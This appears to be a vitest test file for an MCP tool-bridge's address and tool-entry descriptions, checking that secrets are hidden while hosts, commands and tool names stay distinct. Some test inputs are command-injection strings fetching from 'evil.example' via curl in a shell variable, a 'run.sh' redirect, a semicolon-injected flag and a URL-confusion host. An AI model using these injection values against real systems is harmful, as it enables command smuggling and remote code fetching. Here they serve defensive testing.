import { expect, test } from 'vitest'
import { withoutUndefined } from '../../core/json/json.ts'
import { configuredSource, withOptions } from '../recognise/detect-source.ts'
import { describeAddress } from './describe-address.ts'
import { describeEntries } from './describe-present.ts'

test('describeAddress: hides secrets, and neither another host nor another program', () => {
  const describeConfig = (mcp: { url: string } | { command: string[] }) =>
    describeAddress(configuredSource({ mcp }, { name: 'acme' }, {}))
  const ofUrl = (url: string) => describeConfig({ url })
  expect(ofUrl('https://u:p@good.example/mcp?token=x')).toEqual(ofUrl('https://v:q@good.example/mcp?token=y'))
  expect(ofUrl('https://evil.example\\@good.example/mcp')).not.toEqual(ofUrl('https://good.example/mcp'))
  const ofCommand = (...command: string[]) => describeConfig({ command })
  const remote = (url: string) => ofCommand('npx', 'remote', url)
  expect(remote('https://evil.example\\@good.example/')).not.toEqual(remote('https://u:p@good.example/'))
  const withFlag = (input: string) =>
    describeAddress(configuredSource({ command: ['acme'] }, { name: 'acme' }, { flags: { input } }))
  expect(withFlag('--json')).not.toEqual(withFlag('--eval'))
  const redirected = configuredSource({ mcp: { url: 'https://h', redirects: 'any-host' } }, { name: 'a' }, {})
  expect(describeAddress(redirected)).not.toEqual(ofUrl('https://h'))
  const secretHost = (label: string) => ofUrl(`https://sk-${label.repeat(30)}.example/mcp`)
  expect(secretHost('a')).not.toEqual(secretHost('b'))
  const split = (text: string) => ofCommand('env', '-S', text)
  expect(split('API_KEY=abcd node evil.mjs')).not.toEqual(split('API_KEY=abcd node good.mjs'))
  const remoteFlag = (value: string) => ofCommand('ssh', 'host', 'node', 'a.mjs', '--token', value)
  expect(remoteFlag('abcd;evil')).not.toEqual(remoteFlag('abcd;good'))
  expect(remoteFlag('abcd')).toEqual(remoteFlag('efgh'))
  const ofPackage = (version: string) => ofCommand('uvx', `jwt-tools==${version}`)
  expect(ofPackage('1.2.3')).not.toEqual(ofPackage('1.2.4'))
  const header = (token: string) => ofCommand('npx', 'remote', '--header', `Authorization: Bearer ${token}`)
  expect(header('abcd')).toEqual(header('efgh'))
  expect(ofUrl('https://h/mcp?token=a&api_key=b')).toEqual(ofUrl('https://h/mcp?token=c&api_key=d'))
  const ofTree = (environment: Record<string, string>, inherit: string[] = []) =>
    describeAddress(configuredSource({ functions: 'f' }, { name: 'f', environment, inherit }, {}))
  expect(ofTree({ LLM_MCP_BRIDGE: 'a' })).not.toEqual(ofTree({ LLM_MCP_BRIDGE: 'b' }))
  expect(ofTree({})).not.toEqual(ofTree({}, ['AWS_PROFILE']))
  const unfolded = (tool: string, mcp: { url: string } | { command: string[] }) => {
    const hiddenCatalog = { list: { tool: 'find' }, call: { tool: 'run', arguments: { tool } } }
    return describeAddress(configuredSource({ mcp }, { name: 'acme', hiddenCatalog }, {}))
  }
  for (const mcp of [{ url: 'https://good.example' }, { command: ['acme'] }])
    expect(unfolded('delete', mcp)).not.toEqual(unfolded('{name}', mcp))
  const treeIn = (directory?: string) =>
    configuredSource({ functions: 'f' }, { name: 'f' }, withoutUndefined({ directory }))
  expect(describeAddress(treeIn('a'))).not.toEqual(describeAddress(treeIn('b')))
  expect(describeAddress(withOptions(treeIn(), { directory: 'b' }))).toEqual(describeAddress(treeIn('b')))
  const typed = configuredSource({ mcp: { command: ['node', 'a.mjs'] } }, { name: 'a' }, {})
  expect(describeAddress(typed, { typedIn: 'sub' })).not.toEqual(describeAddress(typed))
  const inFolder = (directory: string) => {
    const server = { config: { command: ['node', 'a.mjs'] }, directory }
    return describeAddress({ ...typed, server }, { folder: '/srv/shop' })
  }
  const same = describeAddress(typed)
  expect(inFolder('/srv/shop')).toEqual(same)
  expect(inFolder('/srv/shop/a/b')).toEqual({ ...same, directory: 'a/b' })
  expect(inFolder('/srv/shop2')).toEqual({ ...same, directory: '/srv/shop2' })
  const inWorkspace = (directory: string) => {
    const config = { command: ['node', 'a.mjs'], directory: './sub' }
    return describeAddress({ ...typed, server: { config, directory } }, { folder: '/srv/shop' })
  }
  expect(inWorkspace('/srv/shop/a')).not.toEqual(inWorkspace('/srv/shop/b'))
  const shell = (text: string) => ofCommand('sh', '-c', text)
  expect(shell('TOKEN=a exec node good.mjs')).toEqual(shell('TOKEN=b exec node good.mjs'))
  expect(shell('TOKEN="a b" exec node good.mjs')).toEqual(shell("TOKEN='c' exec node good.mjs"))
  expect(shell('TOKEN=a exec node evil.mjs')).not.toEqual(shell('TOKEN=a exec node good.mjs'))
  expect(JSON.stringify(shell('TOKEN="a secret" exec node good.mjs'))).not.toContain('secret')
  for (const code of ['$(curl${IFS}evil.example)', '`curl${IFS}evil.example`', 'a>run.sh'])
    expect(shell(`TOKEN=${code} exec node good.mjs`)).not.toEqual(shell('TOKEN=a exec node good.mjs'))
  const separate = (text: string) => ofCommand('sh', '-c', '--', text)
  expect(separate('TOKEN=a exec node evil.mjs')).not.toEqual(separate('TOKEN=a exec node good.mjs'))
})

test('describeEntries: tools that clients or scripts may call by one name have it in their definitions', () => {
  const describeList = (names: readonly string[]) => {
    const tools = names.map(name => ({ name, inputSchema: { type: 'object' } }))
    return new Map(
      describeEntries('acme', { tools, problems: [], format: 'MCP tools/list' }, undefined).map(item => [
        item.name,
        JSON.stringify(item),
      ]),
    )
  }
  const long = 'Customers - Records - Archive - 2025 - Items - Attachments - '
  const pairs = [
    ['get data', 'get_data'],
    // A script trims the name of a command.
    ['get', 'get '],
    ['tool', ' '],
    // Names for models are cut.
    [`${long}read`, `${long}delete`],
    [`read${'_'.repeat(60)}a`, `read${'_'.repeat(60)}b`],
    // With the source as prefix they are cut earlier.
    [`${'a'.repeat(58)}_r`, `${'a'.repeat(58)}_d`],
    // A script calls `echo`, which has another meaning there, with the source as prefix, and so do several sources.
    ['acme_echo', 'echo'],
  ]
  for (const [one = '', other = ''] of pairs) {
    const [before, swapped] = [describeList([one, 'greet', other]), describeList([other, one, 'greet'])]
    const without = describeList(['greet', other])
    expect(swapped.get(other)).not.toEqual(before.get(other))
    expect(without.get(other)).not.toEqual(before.get(other))
    expect(without.get('greet')).toEqual(before.get('greet'))
    expect(before.get('greet')).not.toContain('sharesName')
  }
  const free = ['get_2', 'get_3', 'acme', 'acme_get', 'read']
  expect([...describeList(free).values()].join('')).not.toContain('sharesName')
})

test('describeEntries: tools of exactly one name have their positions in their definitions', () => {
  const describeTools = (...descriptions: string[]) => {
    const tools = descriptions.map(description => ({ name: 'get', description, inputSchema: {} }))
    const manifest = { tools, problems: [], format: 'MCP tools/list' }
    return describeEntries('acme', manifest, undefined).map(({ definition }) => definition)
  }
  const [reads, deletes] = describeTools('Reads.', 'Deletes.')
  const [first, second] = describeTools('Deletes.', 'Reads.')
  expect([first, second]).not.toContainEqual(reads)
  expect([first, second]).not.toContainEqual(deletes)
  expect(describeTools('Deletes.')).not.toContainEqual(deletes)
})
